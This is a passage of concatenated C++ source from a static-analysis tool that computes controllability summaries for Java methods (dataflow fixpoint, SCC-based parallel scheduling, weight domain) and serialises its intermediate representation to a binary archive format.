                   best_slot < 0 ? Origin::this_origin() : Origin::param_origin(best_slot + 1));
      }
    }
    return action;
  }

  ActionProvider& provider_;
  const jir::Program& program_;
  const AnalysisOptions& options_;
  std::vector<CallSite>* collector_ = nullptr;
  std::size_t stmt_index_ = 0;
};

LocalMap entry_state(const jir::Method& method) {
  LocalMap state;
  if (!method.mods.is_static) state[std::string(jir::kThisVar)] = Origin::this_origin();
  for (int i = 1; i <= method.nargs(); ++i) state[jir::param_var(i)] = Origin::param_origin(i);
  return state;
}

/// Folds one exit-point state into the accumulating Action.
void accumulate_exit(Action& action, const LocalMap& state, const jir::Method& method,
                     const std::string& return_var) {
  auto merge_entry = [&action](const std::string& key, const Origin& origin) {
    auto it = action.entries.find(key);
    if (it == action.entries.end()) {
      action.entries.emplace(key, origin);
    } else {
      it->second = merge(it->second, origin);
    }
  };

  if (!method.ret.is_void()) {
    Origin ret = return_var.empty() ? Origin::unknown() : origin_of(state, return_var);
    merge_entry(std::string(kReturnKey), ret);
  }
  for (int i = 1; i <= method.nargs(); ++i) {
    merge_entry(final_param_key(i), origin_of(state, jir::param_var(i)));
  }
  // Field entries of params and @this.
  for (const auto& [key, origin] : state) {
    constexpr std::string_view kThisPrefix = "@this.";
    if (key.rfind(kThisPrefix, 0) == 0) {
      merge_entry(this_key(key.substr(kThisPrefix.size())), origin);
      continue;
    }
    if (key.rfind("@p", 0) == 0) {
      std::size_t dot = key.find('.');
      if (dot == std::string::npos) continue;
      int index = std::atoi(key.substr(2, dot - 2).c_str());
      if (index >= 1 && index <= method.nargs()) {
        merge_entry(final_param_key(index, key.substr(dot + 1)), origin);
      }
    }
  }
}

/// The per-method analysis of Algorithm 1, parameterized over the callee
/// summary source. Pure: given the same body and the same provider answers it
/// returns the same summary, which is what lets the wave scheduler run it on
/// any thread. `prebuilt` reuses a CFG constructed elsewhere (nullptr builds
/// one locally, the historical behavior).
MethodSummary compute_summary(const jir::Program& program, const AnalysisOptions& options,
                              jir::MethodId id, ActionProvider& provider,
                              const cfg::ControlFlowGraph* prebuilt) {
  const jir::Method& method = program.method(id);
  MethodSummary summary;

  if (!method.has_body() || method.body.empty()) {
    summary.action = Action::identity(method.nargs(), method.mods.is_static);
    if (method.mods.is_static) summary.action.set("this", Origin::unknown());
    return summary;
  }

  std::optional<cfg::ControlFlowGraph> local_graph;
  if (prebuilt == nullptr) local_graph.emplace(method);
  const cfg::ControlFlowGraph& graph = prebuilt != nullptr ? *prebuilt : *local_graph;
  const auto& blocks = graph.blocks();
  std::vector<cfg::BlockId> order = graph.reverse_post_order();

  Transfer transfer(provider, program, options);

  // Fixpoint over block input states.
  std::vector<LocalMap> in_states(blocks.size());
  std::vector<bool> has_in(blocks.size(), false);
  if (!blocks.empty()) {
    in_states[graph.entry()] = entry_state(method);
    has_in[graph.entry()] = true;
  }

  for (int round = 0; round < options.max_block_iterations; ++round) {
    bool changed = false;
    for (cfg::BlockId block_id : order) {
      if (!has_in[block_id]) continue;
      LocalMap state = in_states[block_id];
      for (std::size_t i = blocks[block_id].first; i < blocks[block_id].last; ++i) {
        transfer.apply(method.body[i], i, state);
      }
      for (cfg::BlockId succ : blocks[block_id].successors) {
        if (!has_in[succ]) {
          in_states[succ] = state;
          has_in[succ] = true;
          changed = true;
        } else if (merge_into(in_states[succ], state)) {
          changed = true;
        }
      }
    }
    if (!changed) break;
  }

  // Collection pass: replay each reachable block from its converged input,
  // recording call sites and folding exit states into the Action.
  transfer.set_call_collector(&summary.call_sites);
  for (cfg::BlockId block_id : order) {
    if (!has_in[block_id]) continue;
    LocalMap state = in_states[block_id];
    for (std::size_t i = blocks[block_id].first; i < blocks[block_id].last; ++i) {
      const jir::Stmt& stmt = method.body[i];
      if (const auto* ret = std::get_if<jir::ReturnStmt>(&stmt)) {
        accumulate_exit(summary.action, state, method, ret->value);
      }
      transfer.apply(stmt, i, state);
    }
    // Implicit exit: a block with no successors not ending in return/throw.
    if (blocks[block_id].successors.empty()) {
      const jir::Stmt& last = method.body[blocks[block_id].last - 1];
      if (!std::holds_alternative<jir::ReturnStmt>(last) &&
          !std::holds_alternative<jir::ThrowStmt>(last)) {
        accumulate_exit(summary.action, state, method, "");
      }
    }
  }
  // Deterministic call-site order regardless of block iteration order.
  std::sort(summary.call_sites.begin(), summary.call_sites.end(),
            [](const CallSite& a, const CallSite& b) { return a.stmt_index < b.stmt_index; });

  // Identity entries for anything an exit never mentioned (e.g. a method
  // whose every path throws) plus the static-this marker.
  Action identity = Action::identity(method.nargs(), method.mods.is_static);
  for (const auto& [key, origin] : identity.entries) {
    summary.action.entries.emplace(key, origin);
  }
  if (!method.mods.is_static) {
    summary.action.entries.emplace("this", Origin::this_origin());
  } else {
    summary.action.entries.emplace("this", Origin::unknown());
  }
  return summary;
}

/// Serial provider: recursive memoized demand through summary(), with the
/// in_progress set bottoming out cycles.
class RecursiveProvider final : public ActionProvider {
 public:
  explicit RecursiveProvider(ControllabilityAnalysis& analysis) : analysis_(analysis) {}
  const Action& callee_action_of(jir::MethodId id) override { return analysis_.summary(id).action; }

 private:
  ControllabilityAnalysis& analysis_;
};

/// Parallel provider: reads the published snapshot table. A self-call (direct
/// recursion) yields the same identity bottom the serial path produces.
class TableProvider final : public ActionProvider {
 public:
  TableProvider(const std::vector<std::uint32_t>& class_offset,
                const std::vector<MethodSummary>& table, std::uint32_t self,
                const jir::Method& self_method)
      : class_offset_(class_offset),
        table_(table),
        self_(self),
        bottom_(Action::identity(self_method.nargs(), self_method.mods.is_static)) {}

  const Action& callee_action_of(jir::MethodId id) override {
    std::uint32_t index = class_offset_[id.class_index] + id.method_index;
    if (index == self_) return bottom_;
    return table_[index].action;
  }

 private:
  const std::vector<std::uint32_t>& class_offset_;
  const std::vector<MethodSummary>& table_;
  std::uint32_t self_;
  Action bottom_;
};

}  // namespace

ControllabilityAnalysis::ControllabilityAnalysis(const jir::Program& program,
                                                 const jir::Hierarchy& hierarchy,
                                                 AnalysisOptions options)
    : program_(&program), hierarchy_(&hierarchy), options_(options) {}

const MethodSummary& ControllabilityAnalysis::summary(jir::MethodId id) {
  auto it = cache_.find(id);
  if (it != cache_.end()) {
    ++cache_hits_;
    return it->second;
  }
  if (in_progress_.count(id) != 0) {
    // Recursive cycle: bottom out at the identity summary. Inserted into the
    // cache so the whole cycle sees a consistent value; overwritten by the
    // full result when the outer computation finishes.
    const jir::Method& m = program_->method(id);
    MethodSummary bottom;
    bottom.action = Action::identity(m.nargs(), m.mods.is_static);
    return cache_.emplace(id, std::move(bottom)).first->second;
  }
  in_progress_.insert(id);
  MethodSummary result = compute(id);
  in_progress_.erase(id);
  // A recursive cycle may have inserted a bottom summary meanwhile;
  // overwrite it with the final result.
  MethodSummary& slot = cache_[id];
  slot = std::move(result);
  return slot;
}

MethodSummary ControllabilityAnalysis::compute(jir::MethodId id) {
  RecursiveProvider provider(*this);
  return compute_summary(*program_, options_, id, provider, nullptr);
}

void ControllabilityAnalysis::precompute(util::Executor* executor) {
  obs::Span span("analysis.precompute");
  const jir::Program& program = *program_;
  const std::vector<jir::MethodId> methods = program.all_methods();
  const std::size_t n = methods.size();
  precompute_stats_ = {};
  if (n == 0) return;
  span.attr("methods", static_cast<std::uint64_t>(n));

  // Dense method numbering: flat index = class_offset[class] + method index,
  // matching the all_methods() enumeration order.
  std::vector<std::uint32_t> class_offset(program.class_count() + 1, 0);
  for (std::size_t ci = 0; ci < program.class_count(); ++ci) {
    class_offset[ci + 1] =
        class_offset[ci] + static_cast<std::uint32_t>(program.classes()[ci].methods.size());
  }
  auto dense = [&class_offset](jir::MethodId id) {
    return class_offset[id.class_index] + id.method_index;
  };

  // Phase 0: per-method CFGs, fanned out across workers.
  std::vector<std::optional<cfg::ControlFlowGraph>> cfgs = cfg::build_graphs(program, executor);

  // Phase 1 (parallel): call-graph scan. callees[i] over-approximates the set
  // of summaries compute_summary() may demand for method i — every invoke in
  // the body, resolved exactly as the transfer function resolves it. The
  // over-approximation only affects scheduling, never results.
  std::vector<std::vector<std::uint32_t>> callees(n);
  util::run_indexed(executor, n, [&](std::size_t i) {
    if (!options_.interprocedural) return;  // no callee summary is ever demanded
    const jir::Method& m = program.method(methods[i]);
    if (!m.has_body()) return;
    std::vector<std::uint32_t>& out = callees[i];
    for (const jir::Stmt& stmt : m.body) {
      const auto* invoke = std::get_if<jir::InvokeStmt>(&stmt);
      if (invoke == nullptr) continue;
      std::optional<jir::MethodId> resolved =
          program.resolve_method(invoke->callee.owner, invoke->callee.name, invoke->callee.nargs);
      if (!resolved || !program.method(*resolved).has_body()) continue;
      std::uint32_t target = dense(*resolved);
      if (std::find(out.begin(), out.end(), target) == out.end()) out.push_back(target);
    }
  });

  // Phase 2 (serial, cheap): Tarjan SCC condensation of the call graph.
  constexpr std::uint32_t kUnvisited = UINT32_MAX;
  std::vector<std::uint32_t> disc(n, kUnvisited);
  std::vector<std::uint32_t> low(n, 0);
  std::vector<std::uint32_t> comp(n, kUnvisited);
  std::vector<std::uint32_t> comp_size;
  {
    std::vector<std::uint32_t> tarjan_stack;
    std::vector<bool> on_stack(n, false);
    struct Frame {
      std::uint32_t node;
      std::size_t next_child;
    };
    std::vector<Frame> dfs;
    std::uint32_t timer = 0;
    for (std::uint32_t root = 0; root < n; ++root) {
      if (disc[root] != kUnvisited) continue;
      dfs.push_back({root, 0});
      disc[root] = low[root] = timer++;
      tarjan_stack.push_back(root);
      on_stack[root] = true;
      while (!dfs.empty()) {
        Frame& frame = dfs.back();
        if (frame.next_child < callees[frame.node].size()) {
          std::uint32_t child = callees[frame.node][frame.next_child++];
          if (disc[child] == kUnvisited) {
            dfs.push_back({child, 0});
            disc[child] = low[child] = timer++;
            tarjan_stack.push_back(child);
            on_stack[child] = true;
          } else if (on_stack[child]) {
            low[frame.node] = std::min(low[frame.node], disc[child]);
          }
          continue;
        }
        std::uint32_t node = frame.node;
        dfs.pop_back();
        if (low[node] == disc[node]) {
          std::uint32_t id = static_cast<std::uint32_t>(comp_size.size());
          std::uint32_t size = 0;
          while (true) {
            std::uint32_t member = tarjan_stack.back();
            tarjan_stack.pop_back();
            on_stack[member] = false;
            comp[member] = id;
            ++size;
            if (member == node) break;
          }
          comp_size.push_back(size);
        }
        if (!dfs.empty()) low[dfs.back().node] = std::min(low[dfs.back().node], low[node]);
      }
    }
  }

  // Phase 3 (serial): taint multi-method cycles and everything that
  // transitively calls into one. Those summaries depend on the serial
  // algorithm's demand order, so they are delegated to it verbatim; direct
  // self-recursion is order-independent (the one entry always bottoms out at
  // identity) and stays wave-schedulable.
  std::vector<std::vector<std::uint32_t>> callers(n);
  for (std::uint32_t i = 0; i < n; ++i) {
    for (std::uint32_t j : callees[i]) {
      if (j != i) callers[j].push_back(i);
    }
  }
  std::vector<bool> tainted(n, false);
  std::vector<std::uint32_t> work;
  std::size_t cyclic = 0;
  for (std::uint32_t i = 0; i < n; ++i) {
    if (comp_size[comp[i]] > 1) {
      tainted[i] = true;
      ++cyclic;
      work.push_back(i);
    }
  }
  while (!work.empty()) {
    std::uint32_t current = work.back();
    work.pop_back();
    for (std::uint32_t caller : callers[current]) {
      if (!tainted[caller]) {
        tainted[caller] = true;
        work.push_back(caller);
      }
    }
  }

  // Phase 4: Kahn wave schedule over the untainted (acyclic) subgraph, then
  // one parallel_for per wave. Workers write disjoint slots of `table`; they
  // read only slots published by earlier waves (plus the self bottom), so
  // the table acts as an immutable snapshot and no reader ever locks.
  std::vector<std::uint32_t> remaining(n, 0);
  for (std::uint32_t i = 0; i < n; ++i) {
    if (tainted[i]) continue;
    for (std::uint32_t j : callees[i]) {
      if (j != i) ++remaining[i];  // untainted => every callee is untainted
    }
  }
  std::vector<std::uint32_t> wave;
  for (std::uint32_t i = 0; i < n; ++i) {
    if (!tainted[i] && remaining[i] == 0) wave.push_back(i);
  }

  std::vector<MethodSummary> table(n);
  while (!wave.empty()) {
    obs::Span wave_span("analysis.wave");
    wave_span.attr("wave", static_cast<std::uint64_t>(precompute_stats_.waves));
    wave_span.attr("methods", static_cast<std::uint64_t>(wave.size()));
    obs::counter_add("analysis.scc_waves");
    ++precompute_stats_.waves;
    precompute_stats_.wave_methods += wave.size();
    util::run_indexed(executor, wave.size(), [&](std::size_t k) {
      std::uint32_t i = wave[k];
      TableProvider provider(class_offset, table, i, program.method(methods[i]));
      const std::optional<cfg::ControlFlowGraph>& prebuilt = cfgs[i];
      table[i] = compute_summary(program, options_, methods[i], provider,
                                 prebuilt ? &*prebuilt : nullptr);
    });
    std::vector<std::uint32_t> next;
    for (std::uint32_t i : wave) {
      for (std::uint32_t caller : callers[i]) {
        if (!tainted[caller] && --remaining[caller] == 0) next.push_back(caller);
      }
    }
    wave = std::move(next);
  }

  // Publish the wave results into the demand cache, then drive the tainted
  // remainder through the serial path in all_methods() order — the same
  // order the CPG builder has always demanded summaries in, so the cycle
  // entries (and with them every downstream result) match a pure serial run
  // bit for bit.
  for (std::size_t i = 0; i < n; ++i) {
    if (!tainted[i]) cache_.emplace(methods[i], std::move(table[i]));
  }
  precompute_stats_.cyclic_methods = cyclic;
  obs::Span serial_span("analysis.serial_tail");
  for (std::size_t i = 0; i < n; ++i) {
    if (tainted[i]) {
      ++precompute_stats_.serial_methods;
      summary(methods[i]);
    }
  }
  serial_span.attr("methods", static_cast<std::uint64_t>(precompute_stats_.serial_methods));
}

}  // namespace tabby::analysis
