// The controllability domain of §III-C: variable origins, controllability
// weights (Table V), the Action method summary (Table III), the
// Polluted_Position (PP) call-edge property, and Formulas 2 (calc) and
// 3 (correct).
//
// Weights:  0   = comes from the caller's `this` or a class property
//           i>0 = comes from method parameter i (1-based)
//           ∞   = uncontrollable (represented as kUncontrollable)
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "util/strings.hpp"

namespace tabby::analysis {

using Weight = std::int64_t;

/// The paper's ∞. Large sentinel rather than a separate variant so weight
/// comparison ("more controllable" = smaller) stays a plain <.
inline constexpr Weight kUncontrollable = 1'000'000'000;

inline bool is_controllable(Weight w) { return w < kUncontrollable; }

/// Human-readable weight ("∞" for uncontrollable) used in dumps and tests.
std::string weight_to_string(Weight w);

/// Where a value came from, relative to the *enclosing method's* inputs.
/// Field sensitivity is one level deep, exactly like the paper's examples
/// (init-param-1.b etc.); deeper accesses collapse onto the first field.
struct Origin {
  enum class Kind : std::uint8_t { Unknown, This, Param };

  Kind kind = Kind::Unknown;
  int param = 0;      // 1-based, Kind::Param only
  std::string field;  // optional single field suffix

  bool operator==(const Origin&) const = default;

  static Origin unknown() { return {}; }
  static Origin this_origin(std::string field = {}) {
    return Origin{Kind::This, 0, std::move(field)};
  }
  static Origin param_origin(int index_1_based, std::string field = {}) {
    return Origin{Kind::Param, index_1_based, std::move(field)};
  }

  bool is_unknown() const { return kind == Kind::Unknown; }

  /// Table V weight of this origin.
  Weight weight() const {
    switch (kind) {
      case Kind::Unknown: return kUncontrollable;
      case Kind::This: return 0;
      case Kind::Param: return param;
    }
    return kUncontrollable;
  }

  /// Accessing `.f` on a value with this origin (depth-1 collapse).
  Origin member(const std::string& f) const {
    Origin o = *this;
    if (o.field.empty()) o.field = f;
    return o;
  }

  /// Paper rendering: "null", "this", "this.x", "init-param-2",
  /// "init-param-2.x".
  std::string to_string() const;

  /// Parse the to_string() form back (used by graph round-trips).
  static Origin parse(std::string_view text);
};

/// Picks the *more controllable* origin — the optimistic merge used at CFG
/// joins. This is deliberately path-insensitive: the paper attributes
/// Tabby's residual false positives to exactly this ("conditional execution
/// statements", §IV-C).
inline const Origin& merge(const Origin& a, const Origin& b) {
  return b.weight() < a.weight() ? b : a;
}

// --- Action (Table III) -----------------------------------------------------

/// Keys of an Action entry: "this", "this.x", "final-param-i",
/// "final-param-i.x", "return". Values are Origins in the callee's input
/// frame ("init-param-j" etc., "null" for uncontrollable).
struct Action {
  std::map<std::string, Origin> entries;

  bool operator==(const Action&) const = default;

  /// Identity summary for an `nargs`-parameter method: parameters keep their
  /// inputs, `this` stays `this`, the return value is unknown. Used for
  /// bodyless methods and as the bottom for recursive cycles.
  static Action identity(int nargs, bool is_static);

  void set(std::string key, Origin value) { entries[std::move(key)] = std::move(value); }

  /// Serialize as "key=value" strings (the graph stores Actions this way).
  std::vector<std::string> to_strings() const;
  static Action from_strings(const std::vector<std::string>& lines);

  std::string to_string() const;
};

inline std::string final_param_key(int i, const std::string& field = {}) {
  std::string key = "final-param-" + std::to_string(i);
  if (!field.empty()) key += "." + field;
  return key;
}
inline std::string this_key(const std::string& field = {}) {
  return field.empty() ? "this" : "this." + field;
}
inline constexpr std::string_view kReturnKey = "return";

// --- Formulas 2 and 3 -------------------------------------------------------

/// Caller-frame weights of the callee's inputs: in["this"], in["init-param-i"].
/// Built at a call site from the receiver/argument origins.
using InWeights = std::map<std::string, Weight>;

/// out = f_calc(Action, in): Formula 2. Evaluates every Action entry's
/// origin against `in`, yielding caller-frame weights for the callee's
/// outputs ("this", "final-param-i", "final-param-i.x", "return").
std::map<std::string, Weight> calc(const Action& action, const InWeights& in);

// --- Polluted_Position ------------------------------------------------------

/// PP[0] = receiver weight (∞ for static calls), PP[i] = weight of argument
/// i. Stored on CALL edges as an int list.
using PollutedPosition = std::vector<Weight>;

std::string pp_to_string(const PollutedPosition& pp);

/// True when every position is ∞ — the PCG pruning criterion.
inline bool all_uncontrollable(const PollutedPosition& pp) {
  for (Weight w : pp) {
    if (is_controllable(w)) return false;
  }
  return true;
}

}  // namespace tabby::analysis
