#include "jar/archive.hpp"

#include <fstream>
#include <unordered_map>

#include "obs/obs.hpp"
#include "util/bytes.hpp"
#include "util/failpoint.hpp"
#include "util/fs.hpp"
#include "util/thread_pool.hpp"

namespace tabby::jar {

namespace {

using util::Error;
using util::Result;

// Statement opcodes. Order is part of the on-disk format; append only.
enum Op : std::uint8_t {
  kAssign = 0,
  kConst = 1,
  kNew = 2,
  kFieldStore = 3,
  kFieldLoad = 4,
  kStaticStore = 5,
  kStaticLoad = 6,
  kArrayStore = 7,
  kArrayLoad = 8,
  kCast = 9,
  kReturn = 10,
  kInvoke = 11,
  kIf = 12,
  kGoto = 13,
  kLabel = 14,
  kThrow = 15,
  kNop = 16,
};

// Modifier bit flags.
constexpr std::uint8_t kFlagPublic = 1;
constexpr std::uint8_t kFlagStatic = 2;
constexpr std::uint8_t kFlagAbstract = 4;
constexpr std::uint8_t kFlagFinal = 8;
constexpr std::uint8_t kFlagNative = 16;
constexpr std::uint8_t kFlagInterface = 32;

std::uint8_t pack_mods(const jir::Modifiers& mods, bool is_interface = false) {
  std::uint8_t flags = 0;
  if (mods.is_public) flags |= kFlagPublic;
  if (mods.is_static) flags |= kFlagStatic;
  if (mods.is_abstract) flags |= kFlagAbstract;
  if (mods.is_final) flags |= kFlagFinal;
  if (mods.is_native) flags |= kFlagNative;
  if (is_interface) flags |= kFlagInterface;
  return flags;
}

jir::Modifiers unpack_mods(std::uint8_t flags) {
  jir::Modifiers mods;
  mods.is_public = (flags & kFlagPublic) != 0;
  mods.is_static = (flags & kFlagStatic) != 0;
  mods.is_abstract = (flags & kFlagAbstract) != 0;
  mods.is_final = (flags & kFlagFinal) != 0;
  mods.is_native = (flags & kFlagNative) != 0;
  return mods;
}

/// Two-pass writer: first intern every string, then emit records.
class Writer {
 public:
  explicit Writer(const Archive& archive) : archive_(archive) {}

  std::vector<std::byte> write() {
    for (const jir::ClassDecl& cls : archive_.classes) intern_class(cls);

    out_.u32(kTjarMagic);
    out_.u16(kTjarVersion);
    out_.bytes(archive_.meta.name);
    out_.bytes(archive_.meta.version);
    out_.uvarint(pool_.size());
    for (const std::string& s : pool_) out_.bytes(s);
    out_.uvarint(archive_.classes.size());
    for (const jir::ClassDecl& cls : archive_.classes) write_class(cls);
    return out_.take();
  }

 private:
  std::uint64_t intern(const std::string& s) {
    auto [it, inserted] = index_.emplace(s, pool_.size());
    if (inserted) pool_.push_back(s);
    return it->second;
  }

  void intern_type(const jir::Type& t) { intern(t.name); }

  void intern_class(const jir::ClassDecl& cls) {
    intern(cls.name);
    intern(cls.super);
    for (const auto& i : cls.interfaces) intern(i);
    for (const auto& f : cls.fields) {
      intern(f.name);
      intern_type(f.type);
    }
    for (const auto& m : cls.methods) {
      intern(m.name);
      intern_type(m.ret);
      for (const auto& p : m.params) intern_type(p);
      for (const auto& s : m.body) intern_stmt(s);
    }
  }

  void intern_stmt(const jir::Stmt& stmt) {
    std::visit([this](const auto& s) { intern_stmt_impl(s); }, stmt);
  }
  void intern_stmt_impl(const jir::AssignStmt& s) {
    intern(s.target);
    intern(s.source);
  }
  void intern_stmt_impl(const jir::ConstStmt& s) {
    intern(s.target);
    if (const auto* str = std::get_if<std::string>(&s.value.value)) intern(*str);
  }
  void intern_stmt_impl(const jir::NewStmt& s) {
    intern(s.target);
    intern_type(s.type);
  }
  void intern_stmt_impl(const jir::FieldStoreStmt& s) {
    intern(s.base);
    intern(s.field);
    intern(s.source);
  }
  void intern_stmt_impl(const jir::FieldLoadStmt& s) {
    intern(s.target);
    intern(s.base);
    intern(s.field);
  }
  void intern_stmt_impl(const jir::StaticStoreStmt& s) {
    intern(s.owner);
    intern(s.field);
    intern(s.source);
  }
  void intern_stmt_impl(const jir::StaticLoadStmt& s) {
    intern(s.target);
    intern(s.owner);
    intern(s.field);
  }
  void intern_stmt_impl(const jir::ArrayStoreStmt& s) {
    intern(s.base);
    intern(s.index);
    intern(s.source);
  }
  void intern_stmt_impl(const jir::ArrayLoadStmt& s) {
    intern(s.target);
    intern(s.base);
    intern(s.index);
  }
  void intern_stmt_impl(const jir::CastStmt& s) {
    intern(s.target);
    intern_type(s.type);
    intern(s.source);
  }
  void intern_stmt_impl(const jir::ReturnStmt& s) { intern(s.value); }
  void intern_stmt_impl(const jir::InvokeStmt& s) {
    intern(s.target);
    intern(s.callee.owner);
    intern(s.callee.name);
    intern(s.base);
    for (const auto& a : s.args) intern(a);
  }
  void intern_stmt_impl(const jir::IfStmt& s) {
    intern(s.lhs);
    intern(s.rhs);
    intern(s.target_label);
  }
  void intern_stmt_impl(const jir::GotoStmt& s) { intern(s.target_label); }
  void intern_stmt_impl(const jir::LabelStmt& s) { intern(s.name); }
  void intern_stmt_impl(const jir::ThrowStmt& s) { intern(s.value); }
  void intern_stmt_impl(const jir::NopStmt&) {}

  void str(const std::string& s) { out_.uvarint(index_.at(s)); }
  void type(const jir::Type& t) {
    str(t.name);
    out_.u8(static_cast<std::uint8_t>(t.dims));
  }

  void write_class(const jir::ClassDecl& cls) {
    str(cls.name);
    out_.u8(pack_mods(cls.mods, cls.is_interface));
    str(cls.super);
    out_.uvarint(cls.interfaces.size());
    for (const auto& i : cls.interfaces) str(i);
    out_.uvarint(cls.fields.size());
    for (const auto& f : cls.fields) {
      str(f.name);
      type(f.type);
      out_.u8(pack_mods(f.mods));
    }
    out_.uvarint(cls.methods.size());
    for (const auto& m : cls.methods) write_method(m);
  }

  void write_method(const jir::Method& m) {
    str(m.name);
    out_.u8(pack_mods(m.mods));
    type(m.ret);
    out_.uvarint(m.params.size());
    for (const auto& p : m.params) type(p);
    out_.uvarint(m.body.size());
    for (const auto& s : m.body) write_stmt(s);
  }

  void write_stmt(const jir::Stmt& stmt) {
    std::visit([this](const auto& s) { write_stmt_impl(s); }, stmt);
  }
  void write_stmt_impl(const jir::AssignStmt& s) {
    out_.u8(kAssign);
    str(s.target);
    str(s.source);
  }
  void write_stmt_impl(const jir::ConstStmt& s) {
    out_.u8(kConst);
    str(s.target);
    if (s.value.is_null()) {
      out_.u8(0);
    } else if (const auto* i = std::get_if<std::int64_t>(&s.value.value)) {
      out_.u8(1);
      out_.svarint(*i);
    } else {
      out_.u8(2);
      str(std::get<std::string>(s.value.value));
    }
  }
  void write_stmt_impl(const jir::NewStmt& s) {
    out_.u8(kNew);
    str(s.target);
    type(s.type);
  }
  void write_stmt_impl(const jir::FieldStoreStmt& s) {
    out_.u8(kFieldStore);
    str(s.base);
    str(s.field);
    str(s.source);
  }
  void write_stmt_impl(const jir::FieldLoadStmt& s) {
    out_.u8(kFieldLoad);
    str(s.target);
    str(s.base);
    str(s.field);
  }
  void write_stmt_impl(const jir::StaticStoreStmt& s) {
    out_.u8(kStaticStore);
    str(s.owner);
    str(s.field);
    str(s.source);
  }
  void write_stmt_impl(const jir::StaticLoadStmt& s) {
    out_.u8(kStaticLoad);
    str(s.target);
    str(s.owner);
    str(s.field);
  }
  void write_stmt_impl(const jir::ArrayStoreStmt& s) {
    out_.u8(kArrayStore);
    str(s.base);
    str(s.index);
    str(s.source);
  }
  void write_stmt_impl(const jir::ArrayLoadStmt& s) {
    out_.u8(kArrayLoad);
    str(s.target);
    str(s.base);
    str(s.index);
  }
  void write_stmt_impl(const jir::CastStmt& s) {
    out_.u8(kCast);
    str(s.target);
    type(s.type);
    str(s.source);
  }
  void write_stmt_impl(const jir::ReturnStmt& s) {
    out_.u8(kReturn);
    str(s.value);
  }
  void write_stmt_impl(const jir::InvokeStmt& s) {
    out_.u8(kInvoke);
    str(s.target);
    out_.u8(static_cast<std::uint8_t>(s.kind));
    str(s.callee.owner);
    str(s.callee.name);
    str(s.base);
    out_.uvarint(s.args.size());
    for (const auto& a : s.args) str(a);
  }
  void write_stmt_impl(const jir::IfStmt& s) {
    out_.u8(kIf);
    str(s.lhs);
    out_.u8(static_cast<std::uint8_t>(s.op));
    str(s.rhs);
    str(s.target_label);
  }
  void write_stmt_impl(const jir::GotoStmt& s) {
    out_.u8(kGoto);
    str(s.target_label);
  }
  void write_stmt_impl(const jir::LabelStmt& s) {
    out_.u8(kLabel);
    str(s.name);
  }
  void write_stmt_impl(const jir::ThrowStmt& s) {
    out_.u8(kThrow);
    str(s.value);
  }
  void write_stmt_impl(const jir::NopStmt&) { out_.u8(kNop); }

  const Archive& archive_;
  util::ByteWriter out_;
  std::vector<std::string> pool_;
  std::unordered_map<std::string, std::uint64_t> index_;
};

class Reader {
 public:
  explicit Reader(std::span<const std::byte> data) : in_(data), size_(data.size()) {}

  Result<Archive> read() {
    Archive archive;
    auto envelope = read_envelope(archive);
    if (!envelope.ok()) return envelope.error();

    auto class_count = in_.count("class");
    if (!class_count.ok()) return class_count.error();
    for (std::size_t i = 0; i < class_count.value(); ++i) {
      auto cls = read_class();
      if (!cls.ok()) return cls.error();
      archive.classes.push_back(std::move(cls.value()));
    }
    if (!in_.at_end()) return Error{"trailing bytes after archive body", in_.position()};
    return archive;
  }

  /// Fail-soft variant: any fault before the class records (header, string
  /// pool) loses the archive; a fault inside class record i keeps classes
  /// [0, i) and drops the rest — class records index the shared pool, so
  /// there is no boundary to resynchronise at once the stream is off.
  Archive read_salvage(DecodeDegradation& degradation) {
    Archive archive;
    auto fail = [&](const util::Error& error, std::size_t classes_declared) {
      degradation.error = error;
      degradation.classes_kept = archive.classes.size();
      degradation.classes_dropped = classes_declared - archive.classes.size();
      degradation.bytes_skipped = size_ - std::min(size_, in_.position());
      return archive;
    };

    if (auto envelope = read_envelope(archive); !envelope.ok()) {
      archive.classes.clear();
      return fail(envelope.error(), 0);
    }
    auto class_count = in_.count("class");
    if (!class_count.ok()) return fail(class_count.error(), 0);
    for (std::size_t i = 0; i < class_count.value(); ++i) {
      auto cls = read_class();
      if (!cls.ok()) return fail(cls.error(), class_count.value());
      archive.classes.push_back(std::move(cls.value()));
    }
    if (!in_.at_end()) return fail({"trailing bytes after archive body", in_.position()},
                                   class_count.value());
    degradation.classes_kept = archive.classes.size();
    return archive;
  }

 private:
  /// Header through string pool — everything before the class records.
  util::Status read_envelope(Archive& archive) {
    auto magic = in_.u32();
    if (!magic.ok()) return magic.error();
    if (magic.value() != kTjarMagic) return Error{"bad TJAR magic", 0};
    auto version = in_.u16();
    if (!version.ok()) return version.error();
    if (version.value() != kTjarVersion) {
      return Error{"unsupported TJAR version " + std::to_string(version.value()), 4};
    }

    auto name = in_.bytes();
    if (!name.ok()) return name.error();
    archive.meta.name = std::move(name.value());
    auto verstr = in_.bytes();
    if (!verstr.ok()) return verstr.error();
    archive.meta.version = std::move(verstr.value());

    auto pool_count = in_.count("string pool");
    if (!pool_count.ok()) return pool_count.error();
    pool_.reserve(pool_count.value());
    for (std::size_t i = 0; i < pool_count.value(); ++i) {
      auto s = in_.bytes();
      if (!s.ok()) return s.error();
      pool_.push_back(std::move(s.value()));
    }
    return util::Status::ok_status();
  }

 private:
  Result<std::string> str() {
    auto idx = in_.uvarint();
    if (!idx.ok()) return idx.error();
    if (idx.value() >= pool_.size()) return Error{"string pool index out of range", in_.position()};
    return pool_[idx.value()];
  }

  Result<jir::Type> type() {
    auto name = str();
    if (!name.ok()) return name.error();
    auto dims = in_.u8();
    if (!dims.ok()) return dims.error();
    return jir::Type{std::move(name.value()), dims.value()};
  }

  Result<jir::ClassDecl> read_class() {
    jir::ClassDecl cls;
    auto name = str();
    if (!name.ok()) return name.error();
    cls.name = std::move(name.value());
    auto flags = in_.u8();
    if (!flags.ok()) return flags.error();
    cls.mods = unpack_mods(flags.value());
    cls.is_interface = (flags.value() & kFlagInterface) != 0;
    auto super = str();
    if (!super.ok()) return super.error();
    cls.super = std::move(super.value());

    auto iface_count = in_.count("interface");
    if (!iface_count.ok()) return iface_count.error();
    for (std::size_t i = 0; i < iface_count.value(); ++i) {
      auto iface = str();
      if (!iface.ok()) return iface.error();
      cls.interfaces.push_back(std::move(iface.value()));
    }

    auto field_count = in_.count("field");
    if (!field_count.ok()) return field_count.error();
    for (std::size_t i = 0; i < field_count.value(); ++i) {
      jir::Field f;
      auto fname = str();
      if (!fname.ok()) return fname.error();
      f.name = std::move(fname.value());
      auto ftype = type();
      if (!ftype.ok()) return ftype.error();
      f.type = std::move(ftype.value());
      auto fflags = in_.u8();
